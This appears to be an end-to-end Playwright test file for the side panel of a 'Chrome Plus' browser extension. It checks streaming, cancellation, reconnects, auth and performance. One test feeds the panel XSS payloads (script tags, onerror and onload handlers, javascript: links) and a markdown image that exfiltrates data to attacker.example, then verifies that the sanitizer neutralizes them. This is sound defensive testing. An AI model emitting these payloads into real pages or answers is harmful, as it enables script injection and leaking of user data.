// The side panel in a real Chromium against the real gateway, worker and Redis, with a fake model server.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type FakeOpenAI, fakeBehaviours, type RecordedRequest } from '@chrome-plus/testkit';
import type { Page } from 'playwright-core';
import {
  answerText,
  type Backend,
  chromiumAvailable,
  type ExtensionBrowser,
  lastAnswer,
  launchExtension,
  numberedWords,
  screenshotPath,
  sendMessage,
  startBackend,
  testResults,
  waitForStatus,
  waitForText,
} from './harness.ts';

const skip = chromiumAvailable() ? false : 'Chromium is not installed (/usr/bin/chromium)';

let backend: Backend;
let fake: FakeOpenAI;
let browser: ExtensionBrowser;
const pageErrors: string[] = [];

before(async () => {
  if (skip) return;
  backend = await startBackend('fake');
  fake = backend.fake!;
  browser = await launchExtension();
  await browser.configureServer(backend.url);
});

after(async () => {
  await browser?.close();
  await backend?.stop();
});

async function openConnectedPanel(): Promise<Page> {
  const page = await browser.openPanel();
  page.on('pageerror', (error) => pageErrors.push(String(error)));
  await connected(page);
  await page.getByTestId('new-chat').click();
  return page;
}

async function connected(page: Page, timeout = 15_000): Promise<void> {
  await page.locator('[data-testid="connection-status"][data-state="connected"]').waitFor({ timeout });
}

function chatRequests(): RecordedRequest[] {
  return fake.requests.filter((request) => request.path.endsWith('/chat/completions'));
}

test('a message is sent with Enter and the answer streams in, then completes', { skip }, async () => {
  const words = numberedWords(40);
  fake.enqueue({ type: 'answer', pieces: words, tokenIntervalMs: 40 });
  const page = await openConnectedPanel();
  const before = chatRequests().length;
  await sendMessage(page, 'Count to forty, please.');

  await page.getByTestId('message-user').filter({ hasText: 'Count to forty, please.' }).waitFor();
  const answer = lastAnswer(page);
  const partial = await waitForText(answer, 30);
  assert.ok(partial.length < words.join('').trim().length, 'text shows while it streams');
  assert.equal(await answer.getAttribute('data-status'), 'streaming');
  assert.equal(await page.getByTestId('stop').isVisible(), true, 'stop replaces send while streaming');

  await waitForStatus(answer, 'done');
  assert.equal(await answerText(answer), words.join('').trim());
  assert.equal(await page.getByTestId('send').isVisible(), true);
  const sent = chatRequests().slice(before);
  assert.equal(sent.length, 1, 'one model call');
  assert.match(JSON.stringify(sent[0]?.body?.messages), /Count to forty, please\./);
  await page.close();
});

test('stop cancels the generation: the answer stops growing and the model call is aborted', {
  skip,
}, async () => {
  fake.enqueue({ type: 'answer', pieces: numberedWords(400), tokenIntervalMs: 40 });
  const page = await openConnectedPanel();
  await sendMessage(page, 'Go on for a long time.');
  const answer = lastAnswer(page);
  await waitForText(answer, 40);
  const request = chatRequests().at(-1)!;
  await page.getByTestId('stop').click();
  await waitForStatus(answer, 'cancelled', 10_000);
  const stopped = await answerText(answer);
  await new Promise((resolve) => setTimeout(resolve, 600));
  assert.equal(await answerText(answer), stopped, 'no text after the stop');
  const closed = await Promise.race([
    request.closed,
    new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), 5_000)),
  ]);
  assert.equal(closed?.early, true, 'the provider request was aborted before its end');
  assert.ok(stopped.length < numberedWords(400).join('').length);
  await page.close();
});

test('reloading the panel mid-answer resumes it: the answer completes exactly once', { skip }, async () => {
  const words = numberedWords(90);
  fake.enqueue({ type: 'answer', pieces: words, tokenIntervalMs: 40 });
  const page = await openConnectedPanel();
  await sendMessage(page, 'Survive a reload.');
  await waitForText(lastAnswer(page), 60);
  assert.equal(await lastAnswer(page).getAttribute('data-status'), 'streaming', 'the reload is mid-answer');
  await page.reload();
  await connected(page);
  const answer = lastAnswer(page);
  await waitForStatus(answer, 'done');
  assert.equal(await answerText(answer), words.join('').trim());
  assert.equal(await page.getByTestId('message-assistant').count(), 1);
  assert.equal(await page.getByTestId('message-user').count(), 1);
  await page.close();
});

test('the gateway dies mid-answer and comes back: the answer completes exactly once', { skip }, async () => {
  const words = numberedWords(120);
  fake.enqueue({ type: 'answer', pieces: words, tokenIntervalMs: 40 });
  const page = await openConnectedPanel();
  await sendMessage(page, 'Survive a gateway crash.');
  await waitForText(lastAnswer(page), 60);
  assert.equal(await lastAnswer(page).getAttribute('data-status'), 'streaming', 'the crash is mid-answer');
  await backend.killGateway();
  await page.locator('[data-testid="connection-status"]:not([data-state="connected"])').waitFor();
  await page.locator('.message-note', { hasText: /reconnecting/i }).waitFor();
  await backend.startGateway();
  const answer = lastAnswer(page);
  await waitForStatus(answer, 'done', 45_000);
  assert.equal(await answerText(answer), words.join('').trim());
  assert.equal(await page.getByTestId('message-assistant').count(), 1);
  await connected(page);
  await page.close();
});

test('a message sent while the gateway is down goes out once it is back', { skip }, async () => {
  const words = numberedWords(10);
  fake.enqueue({ type: 'answer', pieces: words, tokenIntervalMs: 10 });
  const page = await openConnectedPanel();
  await backend.killGateway();
  await page.locator('[data-testid="connection-status"][data-state="offline"]').waitFor();
  await sendMessage(page, 'Send me when you can.');
  const answer = lastAnswer(page);
  const note = answer.locator('.message-note[data-kind="offline"]');
  await note.waitFor();
  assert.match((await note.textContent()) ?? '', /offline/i);
  await backend.startGateway();
  await note
    .getByRole('button')
    .click()
    .catch(() => {});
  await waitForStatus(answer, 'done', 45_000);
  assert.equal(await answerText(answer), words.join('').trim());
  await page.close();
});

test('hostile markdown executes nothing and links open safely', { skip }, async () => {
  fake.enqueue({
    type: 'answer',
    pieces: [
      'An image <img src=x onerror="window.__xss=1"> ',
      'a script <script>window.__xss=2</script> ',
      'a [markdown link](javascript:window.__xss=3) ',
      'a <a href="javascript:window.__xss=4">raw link</a> ',
      'an <svg onload="window.__xss=5"><circle r="4"/></svg> ',
      'a frame <iframe src="javascript:window.__xss=6"></iframe> ',
      'a <button onclick="window.__xss=7">button</button> ',
      'a tracking image ![secret](https://attacker.example/leak?q=secret) ',
      'and a [good link](https://example.com/page).\n\n',
      '```html\n<script>window.__xss=8</script>\n```\n',
    ],
    tokenIntervalMs: 20,
  });
  const page = await openConnectedPanel();
  await sendMessage(page, 'Try to break out.');
  const answer = lastAnswer(page);
  await waitForStatus(answer, 'done');
  // Let a broken image fire its error event, had one survived.
  // (The console shows CSP reports for the handlers: Chromium checks them while DOMPurify parses the
  // dirty HTML in an inert document; nothing of it reaches the panel.)
  await page.waitForTimeout(500);
  for (const link of await answer.locator('.markdown a').all()) {
    if (!(await link.getAttribute('href'))?.startsWith('https:')) await link.click();
  }
  await answer.locator('.markdown button').evaluateAll((buttons) => {
    for (const button of buttons) (button as HTMLButtonElement).click();
  });
  assert.equal(await page.evaluate(() => (window as { __xss?: unknown }).__xss), undefined);
  const markdown = answer.locator('.markdown');
  assert.equal(await markdown.locator('script, iframe, object, embed, form, img').count(), 0);
  // A model-chosen image would load (and leak) on sight; it is shown as a link instead.
  assert.equal(
    await markdown.locator('a', { hasText: 'secret' }).getAttribute('href'),
    'https://attacker.example/leak?q=secret',
  );
  assert.equal(await markdown.locator('[onerror], [onload], [onclick]').count(), 0);
  assert.equal(await page.locator('a[href^="javascript" i]').count(), 0);
  const good = markdown.locator('a', { hasText: 'good link' });
  assert.equal(await good.getAttribute('href'), 'https://example.com/page');
  assert.equal(await good.getAttribute('target'), '_blank');
  assert.equal(await good.getAttribute('rel'), 'noopener noreferrer');
  assert.match(
    (await markdown.locator('pre code').textContent()) ?? '',
    /<script>window.__xss=8<\/script>/,
    'code is shown as text',
  );
  await page.close();
});

test('a provider error is said in plain words, and retry regenerates the answer', { skip }, async () => {
  fake.enqueue(fakeBehaviours.badRequest('The temperature is out of range.'));
  const page = await openConnectedPanel();
  await sendMessage(page, 'Fail first, please.');
  const failed = lastAnswer(page);
  await waitForStatus(failed, 'error');
  const error = failed.getByTestId('message-error');
  assert.match((await error.textContent()) ?? '', /temperature is out of range/i);
  assert.equal(await page.getByTestId('send').isVisible(), true, 'an error ends the busy state');

  const words = numberedWords(12);
  fake.enqueue({ type: 'answer', pieces: words, tokenIntervalMs: 10 });
  await error.getByTestId('retry').click();
  const retried = lastAnswer(page);
  await waitForStatus(retried, 'done');
  assert.equal(await answerText(retried), words.join('').trim());
  assert.equal(await page.getByTestId('message-assistant').count(), 1, 'the failed answer was replaced');

  const again = numberedWords(5).map((word) => `again-${word}`);
  fake.enqueue({ type: 'answer', pieces: again, tokenIntervalMs: 10 });
  await page.getByTestId('regenerate').click();
  await page
    .locator('[data-testid="message-assistant"][data-status="done"]', { hasText: 'again-word1' })
    .waitFor();
  assert.equal(await page.getByTestId('message-assistant').count(), 1);
  assert.equal(await page.getByTestId('message-user').count(), 1);
  const last = chatRequests().at(-1);
  assert.deepEqual(
    ((last?.body?.messages ?? []) as { role: string }[]).map((message) => message.role),
    ['user'],
    'a regenerated answer is not shown its failed or replaced predecessors',
  );
  await page.close();
});

test('a refused token asks for one and stops retrying; the saved token connects', { skip }, async () => {
  const guarded = await startBackend('demo', { AUTH_TOKENS: 'tester:e2e-secret-token' });
  try {
    await browser.configureServer(guarded.url, 'wrong-token');
    const page = await browser.openPanel();
    const banner = page.getByTestId('unauthorized-banner');
    await banner.waitFor({ timeout: 15_000 });
    assert.equal(await page.getByTestId('connection-status').getAttribute('data-state'), 'offline');
    assert.match((await page.getByTestId('connection-status').textContent()) ?? '', /token/i);
    await page.waitForTimeout(1_500);
    assert.equal(
      await page.getByTestId('connection-status').getAttribute('data-reason'),
      'unauthorized',
      'no reconnect attempts with a refused token',
    );
    await browser.configureServer(guarded.url, 'e2e-secret-token');
    await connected(page);
    assert.equal(await banner.isVisible(), false);
    await page.close();
  } finally {
    await browser.configureServer(backend.url);
    await guarded.stop();
  }
});

test('a long answer does not slow the panel down as it grows', { skip }, async () => {
  // About 20,000 tokens (5 words a piece, 4,000 pieces) in paragraphs, arriving as fast as the worker writes.
  const pieces = Array.from({ length: 20 }, (_, index) =>
    index % 10 === 9 ? 'and that ends a paragraph.\n\n' : 'streaming text keeps arriving here ',
  );
  fake.enqueue({ type: 'answer', pieces, tokens: 4_000, tokenIntervalMs: 1 });
  const page = await openConnectedPanel();
  // An event-loop probe: how late a 20 ms timer fires says how long the page was busy rendering.
  await page.evaluate(() => {
    const lags: { at: number; lag: number }[] = [];
    let expected = performance.now() + 20;
    setInterval(() => {
      const now = performance.now();
      lags.push({ at: now, lag: Math.max(0, now - expected) });
      expected = now + 20;
    }, 20);
    (window as { __lags?: typeof lags }).__lags = lags;
  });
  const started = await page.evaluate(() => performance.now());
  await sendMessage(page, 'A very long answer, please.');
  const answer = lastAnswer(page);
  await waitForStatus(answer, 'done', 120_000);
  const ended = await page.evaluate(() => performance.now());
  const text = await answerText(answer);
  assert.ok(text.length > 90_000, `a long answer arrived (${text.length} characters)`);
  const lags = await page.evaluate(() => (window as { __lags?: { at: number; lag: number }[] }).__lags ?? []);
  const middle = started + (ended - started) / 2;
  const lagBetween = (from: number, to: number) =>
    lags.filter((sample) => sample.at >= from && sample.at < to).reduce((sum, sample) => sum + sample.lag, 0);
  const worst = Math.max(0, ...lags.map((sample) => sample.lag));
  const quarter = (ended - started) / 4;
  const quarters = [0, 1, 2, 3].map((index) =>
    Math.round(
      lagBetween(started + index * quarter, started + (index + 1) * quarter + (index === 3 ? 1 : 0)),
    ),
  );
  const firstHalf = lagBetween(started, middle);
  const secondHalf = lagBetween(middle, ended + 1);
  console.log(
    `long answer: ${text.length} characters in ${Math.round(ended - started)} ms; timer lag: worst ${Math.round(worst)} ms, ` +
      `first half ${Math.round(firstHalf)} ms, second half ${Math.round(secondHalf)} ms (by quarter: ${quarters.join(', ')} ms)`,
  );
  assert.ok(worst < 500, `the page never froze (worst timer lag ${Math.round(worst)} ms)`);
  assert.ok(
    secondHalf < firstHalf * 3 + 500,
    'the second half of the answer costs about what the first half did',
  );
  await page.close();
});

test('the options page tests the connection and says plainly what is wrong', { skip }, async () => {
  const page = await browser.context.newPage();
  await page.goto(`chrome-extension://${browser.extensionId}/options.html`);
  const result = page.getByTestId('options-result');

  await page.getByTestId('server-url').fill(backend.url);
  await page.getByTestId('test-connection').click();
  await result.getByText(/Connected to/).waitFor({ timeout: 15_000 });
  await page
    .getByTestId('default-model')
    .locator('option[value="fake-model"]')
    .waitFor({ state: 'attached' });

  await page.getByTestId('server-url').fill('ws://127.0.0.1:9/v1/ws');
  await page.getByTestId('test-connection').click();
  await result.getByText(/Cannot connect/).waitFor({ timeout: 15_000 });

  const fakeHttp = new URL(fake.url);
  await page.getByTestId('server-url').fill(`ws://${fakeHttp.host}/v1/ws`);
  await page.getByTestId('test-connection').click();
  await result.getByText(/not a Chrome Plus server/).waitFor({ timeout: 15_000 });

  await page.getByTestId('server-url').fill('ftp://nowhere');
  await page.getByTestId('test-connection').click();
  await result.getByText(/not a WebSocket address/).waitFor();
  await page.close();
});

test('the demo model answers a new user out of the box (screenshot for the README)', { skip }, async () => {
  const demo = await startBackend('demo');
  try {
    await browser.configureServer(demo.url);
    const page = await openConnectedPanel();
    await sendMessage(page, 'Hi! What can you do?');
    const answer = lastAnswer(page);
    await waitForStatus(answer, 'done');
    assert.match(await answerText(answer), /Chrome Plus demo model/);
    await page.mouse.move(0, 0);
    await page.screenshot({ path: screenshotPath('panel.png') });
    await page.emulateMedia({ colorScheme: 'dark' });
    mkdirSync(testResults, { recursive: true });
    await page.screenshot({ path: join(testResults, 'panel-dark.png') });
    await page.close();
  } finally {
    await browser.configureServer(backend.url);
    await demo.stop();
  }
});

test('no page error happened in any panel', { skip }, () => {
  assert.deepEqual(pageErrors, []);
});
